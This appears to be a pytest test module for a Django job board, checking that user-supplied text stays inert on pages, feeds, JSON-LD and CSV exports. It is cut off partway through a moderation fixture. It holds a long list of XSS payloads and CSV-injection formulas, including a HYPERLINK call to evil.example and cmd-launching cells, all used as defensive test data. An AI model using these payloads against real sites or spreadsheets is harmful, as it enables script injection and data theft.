"""No text that people type runs as markup: stored and reflected XSS through every page that
shows it, the Markdown renderer, JSON-LD, feeds, emails and the CSV export."""

import csv
import datetime
import functools
import html
import io
import itertools
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from urllib.parse import quote, urlencode

import pytest
from django.conf import settings
from django.contrib.auth.models import Group
from django.core.cache import cache
from django.core.exceptions import ValidationError
from django.test import Client
from django.utils import timezone, translation

from applicants import alerts
from applicants import services as applicant_services
from applicants.models import Application, ApplicationEvent, SavedSearch
from jobboard.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown
from listings import services as listing_services
from listings.models import AbuseReport, CompanyMembership, Listing, ListingFlag
from listings.selectors import PAGE_SIZE
from notifications import emails as notification_emails
from notifications.models import Notification
from notifications.services import notify_rendered
from tests.accounts.factories import SeekerFactory, StaffFactory
from tests.applicants.factories import ApplicationFactory, CVFactory, SeekerProfileFactory
from tests.listings.factories import (
    CompanyFactory,
    MembershipFactory,
    PendingListingFactory,
    PublishedListingFactory,
)

pytestmark = pytest.mark.django_db

PAYLOADS = [
    # Script elements, in every spelling, closed or not.
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<template><script>alert(1)</script></template>",
    # Leaving the element, attribute or block the text is shown in.
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus=alert(1) x="',
    '"><svg/onload=1>',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<img src=x onerror=alert(1)//",
    "<img/src/onerror=1>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe onload=alert(1)></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    '<div onmouseover="alert(1)">hover</div>',
    "<a onmouseover=alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>custom element</x>",
    # Script URLs in HTML links, images, frames, objects and forms.
    '<a href="javascript:alert(1)">x</a>',
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="%6Aavascript:alert(1)">x</a>',
    '<a href="\\u006Aavascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<isindex action=javascript:alert(1) type=image>",
    # Script URLs in Markdown links, images, autolinks and reference links.
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    '<https://ok.example/"onmouseover="alert(1)>',
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    '[x](https://ok.example "t" onmouseover="alert(1)")',
    # SVG and MathML.
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) />x</a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) />",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    # Style sheets, CSS expressions and elements that act on the whole document.
    "<style>@import 'https://evil.example/x.css';</style>",
    '<style>*{background:url("javascript:alert(1)")}</style>',
    '<div style="width:expression(alert(1))">x</div>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    # Broken and unclosed markup.
    "<div><p>unclosed <b onclick=alert(1)>bold",
    "<a href='https://ok.example' onclick=alert(1)",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p title="</p><script>alert(1)</script>">x</p>',
    # Text that must stay text: encoded markup and template or format syntax.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "＜script＞alert(1)＜/script＞",
    "{{ 7*191 }}",
    "{% debug %}",
    "{{ request.user.password }}{% csrf_token %}",
    "${7*191} #{7*191} <%= 7*191 %>",
    "%(password)s %s {0.__class__}",
]

# Cells a spreadsheet would run as formulas (CSV injection).
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"CV")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# Addresses that Django's EmailValidator accepts (quoted or unusual local parts).
EMAIL_PAYLOADS = [
    '"<script>alert(1)</script>"@example.com',
    '"\'><img/src=x/onerror=alert(1)>"@example.com',
    "x'onmouseover='alert(1)'@example.com",
    "=1+2@example.com",
]


def packed(limit: int, payloads=PAYLOADS, sep: str = " ") -> list[str]:
    """The payloads joined into as few strings as fit a field of `limit` characters."""
    chunks, current = [], ""
    for payload in payloads:
        if len(payload) > limit:
            continue
        if current and len(current) + len(sep) + len(payload) <= limit:
            current += sep + payload
        else:
            if current:
                chunks.append(current)
            current = payload
    return [*chunks, current]


def spread(limit: int, count: int, payloads=PAYLOADS) -> list[str]:
    """`count` values for a field of `limit` characters that together hold every payload."""
    chunks = packed(limit, payloads)
    assert count >= len(chunks), f"{count} objects cannot hold {len(chunks)} chunks"
    return list(itertools.islice(itertools.cycle(chunks), count))


ALL_MARKDOWN = "\n\n".join(PAYLOADS)


# ---- reading HTML as a browser would ----

# Elements no page of ours has: any of them would come from user text.
FORBIDDEN_ELEMENTS = {
    "iframe", "frame", "frameset", "object", "embed", "applet", "base", "svg", "math", "style",
    "template", "isindex", "marquee", "video", "audio", "source", "noscript", "x", "mglyph",
    "animate", "set",
}  # fmt: skip
FORBIDDEN_ATTRIBUTES = {
    "srcdoc", "formaction", "background", "dynsrc", "lowsrc", "http-equiv",
    "attributename", "values", "from", "to", "by",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "poster", "cite", "codebase", "longdesc",
    "srcset", "ping", "xlink:href", "background", "manifest", "icon", "usemap",
}  # fmt: skip
BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")
# The admin's theme switch draws inline SVG icons; any other <svg> kind fails the comparison
# with the same page in plain text.
ADMIN_ICONS = frozenset({"svg"})
# Where our pages load scripts from: static files, and the admin's translation catalogue.
SCRIPT_SOURCES = (settings.STATIC_URL, "/admin/jsi18n/")
JSON_SCRIPT_TYPES = {"application/ld+json", "application/json"}
# The URL standard: control characters and spaces around a URL are dropped, and tabs and
# newlines anywhere in it ("java\tscript:" is "javascript:"); a space inside is kept.
_AROUND_URL = "".join(chr(code) for code in range(0x21))
_TAB_OR_NEWLINE = re.compile(r"[\t\n\r]+")
_UNSAFE_CSS = re.compile(r"expression|javascript:|vbscript:|url\s*\(|@import|behavior|binding")


class _Document(HTMLParser):
    """Every element with its attributes, every script's body, and the text a reader sees."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.scripts: list[tuple[dict, str]] = []
        self.text: list[str] = []
        self._script: tuple[dict, list[str]] | None = None

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))
        self.text.append(" ")
        if tag == "script":
            self._script = (dict(attrs), [])

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, attrs))
        self.text.append(" ")

    def handle_endtag(self, tag):
        self.text.append(" ")
        if tag == "script" and self._script is not None:
            attrs, body = self._script
            self.scripts.append((attrs, "".join(body)))
            self._script = None

    def handle_data(self, data):
        if self._script is not None:
            self._script[1].append(data)
        else:
            self.text.append(data)


@functools.lru_cache(maxsize=512)
def parse(markup: str) -> _Document:
    document = _Document()
    document.feed(markup)
    document.close()
    return document


def _collapsed(text: str) -> str:
    return " ".join(text.split())


def _squeezed(text: str) -> str:
    # Markup between words (a <br>, a link that urlize made) changes only the spacing.
    return "".join(text.split())


def _is_dangerous_url(value: str) -> bool:
    decoded = value
    # Undo further entity encoding too, in case anything decodes twice.
    for _ in range(3):
        decoded = html.unescape(decoded)
    compact = _TAB_OR_NEWLINE.sub("", decoded.strip(_AROUND_URL))
    return compact.lower().startswith(BAD_SCHEMES)


def _is_local(url: str) -> bool:
    return url == "" or (url.startswith("/") and not url.startswith("//"))


def assert_nothing_executable(
    markup: str, where: str = "", *, allow: frozenset[str] = frozenset()
) -> _Document:
    """No script, handler, script URL, frame, plugin, style sheet or document-level element
    that a page of ours does not put there itself (`allow`: elements the page's template has,
    such as the admin's SVG icons)."""
    document = parse(markup)
    for tag, attrs in document.elements:
        found = f"<{tag} {attrs}> in {where}"
        assert tag not in FORBIDDEN_ELEMENTS - allow, found
        values = dict(attrs)
        for name, value in attrs:
            assert not name.startswith("on"), found
            assert name not in FORBIDDEN_ATTRIBUTES, found
            if name in URL_ATTRIBUTES:
                assert not _is_dangerous_url(value or ""), found
            if name == "style":
                assert not _UNSAFE_CSS.search((value or "").lower()), found
        if tag == "script":
            src = values.get("src")
            assert (src and src.startswith(SCRIPT_SOURCES)) or (
                values.get("type") in JSON_SCRIPT_TYPES
            ), found
        elif tag == "img":
            assert (values.get("src") or "").startswith(settings.STATIC_URL), found
        elif tag == "link":
            href = values.get("href") or ""
            assert _is_local(href) or href.startswith(settings.SITE_URL + "/"), found
        elif tag == "form":
            assert _is_local(values.get("action") or ""), found
    for attrs, body in document.scripts:
        if attrs.get("src"):
            assert not body.strip(), f"inline code in a <script src> in {where}"
        else:
            # JSON data blocks only, and nothing in them can close the element.
            assert "<" not in body, f"'<' in a JSON script block in {where}"
            try:
                json.loads(body)
            except ValueError as error:
                raise AssertionError(f"a JSON script block ends early in {where}") from error
    return document


def text_of(markup: str) -> str:
    """What a reader sees of the page, without spacing (script bodies are not text)."""
    return _squeezed("".join(parse(markup).text))


def assert_shown_as_text(markup: str, texts, where: str = "") -> None:
    """Each text is on the page as text that a reader sees: escaped, not interpreted."""
    seen = text_of(markup)
    for text in texts:
        assert _squeezed(text) in seen, f"{text!r} is not shown as text in {where}"


# What Markdown may add: the renderer's own tags and attributes, and the line breaks of plain
# text shown with linebreaks/linebreaksbr. Any other kind of element comes from the template.
def _is_text_markup(tag: str, names: tuple[str, ...]) -> bool:
    allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
    return tag in ALLOWED_TAGS and set(names) <= allowed


def element_kinds(markup: str) -> set[tuple[str, tuple[str, ...]]]:
    """Each kind of element on the page (tag and attribute names) beyond text markup."""
    kinds = set()
    for tag, attrs in parse(markup).elements:
        names = tuple(sorted({name for name, _value in attrs}))
        if not _is_text_markup(tag, names):
            kinds.add((tag, names))
    return kinds


def assert_only_text_markup(markup: str) -> None:
    assert element_kinds(markup) == set(), markup


# ---- pages, and the same pages once the attack text is replaced by plain text ----


class Planted:
    """Where attack text was stored, so that it can be swapped for plain text later."""

    def __init__(self):
        self.cells: list[tuple[type, int, str, tuple[str, ...]]] = []

    def put(self, obj, *fields: str, keys: tuple[str, ...] = ()):
        for field in fields:
            self.cells.append((type(obj), obj.pk, field, keys))
        return obj

    def make_plain(self) -> None:
        for number, (model, pk, field, keys) in enumerate(self.cells):
            plain = f"plain{number}@example.com" if "email" in field else f"Plain text {number}"
            if keys:
                row = model.objects.get(pk=pk)
                value = dict(getattr(row, field))
                value.update({key: f"Plain {key} {number}" for key in keys})
                model.objects.filter(pk=pk).update(**{field: value})
            else:
                model.objects.filter(pk=pk).update(**{field: plain})


class Pages:
    """Fetches pages that show attack text and checks each. `compare_with_plain_text` then
    swaps the attack text for plain text, fetches the first page of each kind again, and
    finds on no page of that kind an element (tag and attribute names) that page lacks."""

    def __init__(self, planted: Planted):
        self.planted = planted
        self.fetched: dict[str, list[tuple[Client, str, str]]] = {}

    def check(self, client: Client, url: str, *, kind: str, shows=()) -> str:
        response = client.get(url)
        assert response.status_code == 200, url
        markup = response.content.decode()
        assert_nothing_executable(
            markup, url, allow=ADMIN_ICONS if url.startswith("/admin/") else frozenset()
        )
        assert_shown_as_text(markup, shows, url)
        self.fetched.setdefault(kind, []).append((client, url, markup))
        return markup

    def compare_with_plain_text(self) -> None:
        self.planted.make_plain()
        cache.clear()
        for kind, fetched in self.fetched.items():
            client, url, _markup = fetched[0]
            response = client.get(url)
            assert response.status_code == 200, url
            plain = element_kinds(response.content.decode())
            for _client, url, markup in fetched:
                added = element_kinds(markup) - plain
                assert not added, f"elements from user text on {url} ({kind}): {added}"


@pytest.fixture
def planted():
    return Planted()


@pytest.fixture
def pages(planted):
    return Pages(planted)


def logged_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def url_in(language: str, obj) -> str:
    with translation.override(language):
        return obj.get_absolute_url()


def json_ld(markup: str) -> dict:
    (body,) = [
        body for attrs, body in parse(markup).scripts if attrs.get("type") == "application/ld+json"
    ]
    return json.loads(body)


# ---- the Markdown renderer (listing and company descriptions) ----


def test_there_are_at_least_fifty_distinct_payloads():
    assert len(PAYLOADS) >= 50
    assert len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_renderer_leaves_nothing_executable(payload):
    output = str(render_markdown(payload))

    assert "<script" not in output.lower()
    # Quoted attribute values are text: a title may say "onclick=".
    for tag in re.findall(r"""<[a-z](?:"[^"]*"|'[^']*'|[^'">])*>?""", output, re.IGNORECASE):
        assert not re.search(r"[\s/\"']on\w+\s*=", re.sub(r""""[^"]*"|'[^']*'""", '""', tag))
    tags = {tag for tag, _attrs in parse(output).elements}
    assert not tags & {"iframe", "object", "embed", "style", "base", "meta", "form", "img"}
    assert_nothing_executable(output, payload)
    assert_only_text_markup(output)


def test_markdown_renderer_leaves_nothing_executable_in_a_document_of_every_payload():
    output = str(render_markdown(f"## Duties\n\n- Cooking\n\n{ALL_MARKDOWN}\n\nApply **now**."))

    assert_nothing_executable(output, "all payloads")
    assert_only_text_markup(output)
    assert output.startswith("<h2>Duties</h2>\n<ul>\n<li>Cooking</li>")


@pytest.mark.parametrize("syntax", ["{{ 7*191 }}", "{% debug %}", "%(password)s %s"])
def test_markdown_renderer_shows_template_syntax_as_written(syntax):
    assert_shown_as_text(str(render_markdown(syntax)), [syntax])


def test_the_checks_themselves_catch_executable_markup():
    for unsafe in [
        "<script>alert(1)</script>",
        '<a href="java&#9;script:alert(1)">x</a>',
        '<a href="&amp;#106;avascript:alert(1)">x</a>',
        "<p onclick=alert(1)>x</p>",
        "<svg></svg>",
        '<img src="/media/x.png">',
        '<p style="background:url(x)">x</p>',
        '<form action="https://evil.example/"></form>',
        '<script type="application/ld+json">{"a": "</script>"}</script>',
        '<meta http-equiv="refresh" content="0">',
    ]:
        with pytest.raises(AssertionError):
            assert_nothing_executable(unsafe)
    with pytest.raises(AssertionError):
        assert_shown_as_text("<b>x</b>", ["<b>x</b>"])
    assert element_kinds('<p>x</p><div class="a">y</div>') == {("div", ("class",))}


# ---- listings: detail pages, search, feeds, JSON-LD and company pages ----

TITLES = packed(120)
CITIES = packed(100)
# Registration numbers are short: the payloads that fit in 20 characters.
NUMBERS = packed(20)
COMPANY_NAMES = packed(150)
ATOM = "{http://www.w3.org/2005/Atom}"


class Board:
    """Published listings and their companies with every payload in every text they show.

    Each listing's Japanese title is the title chunk half the list away from its English one,
    so the first half of the listings, shown in English and in Japanese, puts every title chunk
    through the detail page once; every listing is on the search pages and feeds in both."""

    def __init__(self, planted: Planted):
        self.companies = []
        addresses = spread(300, len(COMPANY_NAMES))
        for number, (name_en, address) in enumerate(zip(COMPANY_NAMES, addresses, strict=True)):
            company = CompanyFactory(
                name_en=name_en,
                name_ja=COMPANY_NAMES[-1 - number],
                address=address,
                slug=f"attacked-{number}",
                description=ALL_MARKDOWN if number == 0 else "We build things.",
            )
            planted.put(company, "name_en", "name_ja", "address")
            if number == 0:
                planted.put(company, "description")
            self.companies.append(company)
        count = max(len(TITLES), len(CITIES))
        half = len(TITLES) // 2
        self.listings = []
        for number, (city, org) in enumerate(
            zip(spread(100, count), spread(150, count), strict=True)
        ):
            listing = PublishedListingFactory(
                company=self.companies[number % len(self.companies)],
                title_en=TITLES[number % len(TITLES)],
                title_ja=TITLES[(number + half) % len(TITLES)],
                description_en=ALL_MARKDOWN if number == 0 else "Duties: care.",
                description_ja="\n\n".join(reversed(PAYLOADS)) if number == 0 else "介護の仕事",
                city=city,
                support_org_name=org,
                support_org_number=NUMBERS[number % len(NUMBERS)],
                slug=f"attacked-{number}",
            )
            planted.put(
                listing, "title_en", "title_ja", "city", "support_org_name", "support_org_number"
            )
            if number == 0:
                planted.put(listing, "description_en", "description_ja")
            self.listings.append(listing)
        self.detailed = self.listings[: len(TITLES) - half]


def _check_detail_page(client, pages, listing, language):
    company = listing.company
    title = listing.title_en if language == "en" else listing.title_ja
    shown = pages.check(
        client,
        url_in(language, listing),
        kind=f"listing in {language}",
        shows=[
            title,
            company.name_en,
            company.name_ja,
            listing.city,
            listing.support_org_name,
            listing.support_org_number,
        ],
    )
    data = json_ld(shown)
    assert data["title"] == title
    assert data["hiringOrganization"]["name"] == company.name_en
    assert data["hiringOrganization"]["alternateName"] == company.name_ja
    assert data["jobLocation"]["address"]["addressLocality"] == listing.city
    assert_nothing_executable(data["description"], "JSON-LD description")
    assert element_kinds(data["description"]) == set()


def _check_feeds(client, board, language):
    expected = {
        _collapsed(listing.title_en if language == "en" else listing.title_ja)
        for listing in board.listings
    }
    for feed in ("rss", "atom"):
        response = client.get(f"/{language}/jobs/feed/{feed}/")
        assert response.status_code == 200
        root = ET.fromstring(response.content)  # noqa: S314 - the app's own response
        # The XML holds only feed elements: no payload became an element of its own.
        names = {element.tag.removeprefix(ATOM) for element in root.iter()}
        assert not names & (FORBIDDEN_ELEMENTS | {"script", "img", "a", "body", "p"})
        if feed == "rss":
            items, title_of, body_of = root.iter("item"), "title", "description"
        else:
            items = root.iter(f"{ATOM}entry")
            title_of, body_of = f"{ATOM}title", f"{ATOM}summary"
            # Atom titles are plain text unless typed otherwise.
            assert {title.get("type", "text") for title in root.iter(f"{ATOM}title")} == {"text"}
        titles = set()
        for item in items:
            titles.add(_collapsed(item.findtext(title_of)))
            body = item.findtext(body_of)
            assert_nothing_executable(body, f"{feed} item")
            # The renderer's markup and the summary line's paragraph, nothing else.
            assert element_kinds(body) == set()
        assert titles == expected


def test_listing_and_company_text_is_inert_on_every_public_page_and_feed(client, planted, pages):
    board = Board(planted)
    for listing in board.detailed:
        for language in ("en", "ja"):
            _check_detail_page(client, pages, listing, language)
    last_page = -(-len(board.listings) // PAGE_SIZE)
    for language in ("en", "ja"):
        seen = " ".join(
            text_of(pages.check(client, f"/{language}/jobs/?page={page}", kind="search"))
            for page in range(1, last_page + 1)
        )
        for listing in board.listings:
            title = listing.title_en if language == "en" else listing.title_ja
            company = listing.company.name_en if language == "en" else listing.company.name_ja
            for text in (title, company, listing.city):
                assert _squeezed(text) in seen, (language, text)
        _check_feeds(client, board, language)
    # Every address chunk is on one of the first companies; the names are on the listing pages.
    for company in board.companies[: len(packed(300))]:
        pages.check(
            client,
            url_in("en", company),
            kind="company",
            shows=[company.name_en, company.name_ja, company.address]
            + [listing.title_en for listing in board.listings if listing.company_id == company.pk],
        )
    pages.check(client, url_in("ja", board.companies[0]), kind="company in ja")
    pages.compare_with_plain_text()


@pytest.mark.parametrize(
    "website",
    [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        "java\tscript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        '"><script>alert(1)</script>',
    ],
)
def test_a_company_website_is_never_a_script_url(website):
    # The company page links to it: only web addresses are stored.
    company = CompanyFactory(slug="website", website="https://ok.example/")
    with pytest.raises(ValidationError):
        listing_services.company_update(company=company, website=website)
    company.refresh_from_db()
    assert company.website == "https://ok.example/"


# ---- applicants: what seekers write, shown to employers, and what employers write back ----

NAMES = packed(150)
LABELS = packed(80)
CVS_PER_SEEKER = 5
# Messages and notes are at most 2,000 characters each.
MESSAGES = packed(2000, sep="\n")


def _snapshot_of_every_payload(application, email: str) -> None:
    # The profile as applied with is plain JSON: one application can show the employer every
    # payload in each of its fields (the profile's own length limits apply to the profile).
    every = "\n".join(PAYLOADS)
    snapshot = {
        **application.profile_snapshot,
        "full_name": " ".join(PAYLOADS),
        "email": email,
        "other_languages": " ".join(PAYLOADS),
        "summary": every,
    }
    Application.objects.filter(pk=application.pk).update(
        profile_snapshot=snapshot, cover_letter="\n\n".join(PAYLOADS)
    )
    application.refresh_from_db()


class Hiring:
    """A company's listing and its applicants: two whose profiles, as applied with, and cover
    letters hold every payload; seekers with attack addresses, names and CV names and labels;
    some whose text is a spreadsheet formula; the employer's messages and notes; colleagues
    with attack names."""

    def __init__(self, planted: Planted):
        self.member = MembershipFactory(
            company=CompanyFactory(name_en=NAMES[0], slug="hiring"),
            user__full_name=NAMES[1],
        )
        planted.put(self.member.company, "name_en")
        self.employer = planted.put(self.member.user, "full_name")
        for name in NAMES:
            colleague = MembershipFactory(
                company=self.member.company,
                role=CompanyMembership.Role.MEMBER,
                user__full_name=name,
            )
            planted.put(colleague.user, "full_name")
        self.listing = planted.put(
            PublishedListingFactory(
                company=self.member.company, title_en=TITLES[0], slug="hiring"
            ),
            "title_en",
        )
        self.applications = []
        # Enough seekers for every CV label and file name, five CVs each at most.
        seekers = max(len(EMAIL_PAYLOADS), -(-len(LABELS) // CVS_PER_SEEKER))
        labels, files = iter(LABELS), itertools.cycle(NAMES)
        for number, name in zip(range(seekers), itertools.cycle(NAMES), strict=False):
            email = EMAIL_PAYLOADS[number] if number < len(EMAIL_PAYLOADS) else ""
            profile = SeekerProfileFactory(
                full_name=name,
                other_languages=name,
                summary=MESSAGES[number % len(MESSAGES)],
                user__full_name=name,
                **({"user__email": email} if email else {}),
            )
            planted.put(profile, "full_name", "other_languages", "summary")
            planted.put(profile.user, "full_name", *(["email"] if email else []))
            cvs = [
                planted.put(
                    CVFactory(owner=profile.user, label=label, original_name=next(files)),
                    "label",
                    "original_name",
                )
                for label in itertools.islice(labels, CVS_PER_SEEKER)
            ] or [CVFactory(owner=profile.user)]
            application = ApplicationFactory(listing=self.listing, seeker=profile.user, cv=cvs[0])
            planted.put(application, "cover_letter")
            planted.put(
                application,
                "profile_snapshot",
                keys=("full_name", "email", "other_languages", "summary"),
            )
            application.cvs = cvs
            self.applications.append(application)
        for application, email in zip(self.applications[:2], EMAIL_PAYLOADS, strict=False):
            _snapshot_of_every_payload(application, email)
        # The employer moves the first application on, with a message and a note each time.
        self.messaged = self.applications[0]
        steps = [Application.Status.IN_REVIEW, Application.Status.INTERVIEW]
        steps += [Application.Status.OFFER, Application.Status.HIRED]
        assert len(MESSAGES) <= len(steps)
        for status, message, note in zip(steps, MESSAGES, MESSAGES[::-1], strict=False):
            applicant_services.application_move(
                application=self.messaged,
                by=self.employer,
                to_status=status,
                message=message,
                internal_note=note,
            )
        applicant_services.application_add_note(
            application=self.messaged, by=self.employer, note=MESSAGES[0]
        )
        for event in ApplicationEvent.objects.exclude(message="", internal_note=""):
            planted.put(event, "message", "internal_note")
        for formula in FORMULAS:
            profile = SeekerProfileFactory(full_name=formula, other_languages=formula)
            self.applications.append(
                ApplicationFactory(listing=self.listing, seeker=profile.user, cover_letter=formula)
            )


def _check_employer_pages(hiring, pages):
    employer = logged_in(hiring.employer)
    pages.check(
        employer,
        f"/en/employer/listings/{hiring.listing.pk}/applicants/",
        kind="applicants",
        shows=[application.profile_snapshot["full_name"] for application in hiring.applications],
    )
    for application in hiring.applications[:2]:
        snapshot = application.profile_snapshot
        events = list(application.events.all())
        pages.check(
            employer,
            f"/en/employer/applications/{application.pk}/",
            kind="application",
            shows=[
                snapshot["full_name"],
                snapshot["email"],
                snapshot["other_languages"],
                snapshot["summary"],
                application.cover_letter,
                application.cv.original_name,
                hiring.employer.full_name,
                *[event.message for event in events],
                *[event.internal_note for event in events],
            ],
        )
    pages.check(employer, "/en/employer/", kind="dashboard", shows=NAMES)
    # The company's own forms show what colleagues typed.
    listing = hiring.listing
    pages.check(employer, f"/en/employer/listings/{listing.pk}/edit/", kind="listing form")
    pages.check(
        employer,
        f"/en/employer/listings/{listing.pk}/preview/",
        kind="preview",
        shows=[listing.title_en],
    )
    pages.check(employer, "/en/employer/company/", kind="company form")
    pages.check(employer, "/en/employer/company/delete/", kind="company delete", shows=[NAMES[0]])


def _check_seeker_pages(hiring, pages):
    for application in hiring.applications[: len(EMAIL_PAYLOADS)]:
        pages.check(
            logged_in(application.seeker),
            "/en/me/applications/",
            kind="applications",
            # The account menu shows the address the seeker signed up with.
            shows=[
                hiring.listing.title_en,
                application.seeker.email,
                *[event.message for event in application.events.all()],
            ],
        )
    seeker = logged_in(hiring.messaged.seeker)
    cvs = hiring.messaged.cvs
    pages.check(
        seeker,
        "/en/me/cvs/",
        kind="CVs",
        shows=[text for cv in cvs for text in (cv.label, cv.original_name)],
    )
    profile = hiring.messaged.seeker.seeker_profile
    pages.check(seeker, "/en/me/profile/", kind="profile", shows=[profile.summary])
    pages.check(seeker, "/en/accounts/settings/", kind="settings")
    other_listing = PublishedListingFactory(slug="other")
    pages.check(
        seeker,
        f"/en/jobs/{other_listing.pk}/apply/",
        kind="apply",
        shows=[cv.label for cv in cvs],
    )
    # Staff see every CV's label and file name in one list.
    pages.check(
        logged_in(StaffFactory()),
        "/admin/applicants/cv/",
        kind="CVs in the admin",
        shows=[*LABELS, *NAMES],
    )


def _check_csv_export(hiring):
    response = logged_in(hiring.employer).get(
        f"/en/employer/listings/{hiring.listing.pk}/applicants.csv"
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert len(body) == len(hiring.applications)
    cells = {cell for row in body for cell in row}
    for row in body:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
    # What was typed comes back whole, behind a quote where it would start a formula.
    by_name = {row[header.index("Full name")]: row for row in body}
    for application in hiring.applications:
        name = application.profile_snapshot["full_name"]
        row = by_name["'" + name if name.startswith(FORMULA_START) else name]
        letter = application.cover_letter
        assert row[header.index("Cover letter")] == (
            "'" + letter if letter.startswith(FORMULA_START) else letter
        )
        email = application.profile_snapshot["email"]
        assert ("'" + email if email.startswith(FORMULA_START) else email) in cells


def test_applicant_and_employer_text_is_inert_on_pipeline_pages_and_in_the_csv(planted, pages):
    hiring = Hiring(planted)
    _check_csv_export(hiring)
    _check_employer_pages(hiring, pages)
    _check_seeker_pages(hiring, pages)
    pages.compare_with_plain_text()


# ---- moderation screens in the admin ----

DETAILS = packed(2000, sep="\n")
FLAG_DETAILS = packed(500)


class Moderation:
    """Listings waiting for review with attack text in what moderators read: titles, changes
    since approval, fair-recruitment flags, abuse reports and their reporters, company notes,
    emails in the outbox, applications."""

    def __init__(self, planted: Planted):
        self.moderator = StaffFactory(is_superuser=False, full_name=NAMES[2])
        self.moderator.groups.add(Group.objects.get(name="Moderators"))
        self.superuser = StaffFactory()
        self.company = planted.put(
            CompanyFactory(
                name_en=NAMES[0],
                slug="moderated",
                description=ALL_MARKDOWN,
                verification_note="\n".join(PAYLOADS),
            ),
            "name_en",
            "description",
            "verification_note",
        )
        self.pending = [
            planted.put(
                PendingListingFactory(
                    company=self.company, title_en=title, slug=f"pending-{number}"
                ),
                "title_en",
            )
            for number, title in enumerate(TITLES)
        ]
        self.reviewed = self.pending[0]
        Listing.objects.filter(pk=self.reviewed.pk).update(
            description_en=ALL_MARKDOWN,
            approved_content={"title_en": TITLES[-1], "description_en": "\n".join(PAYLOADS)},
        )
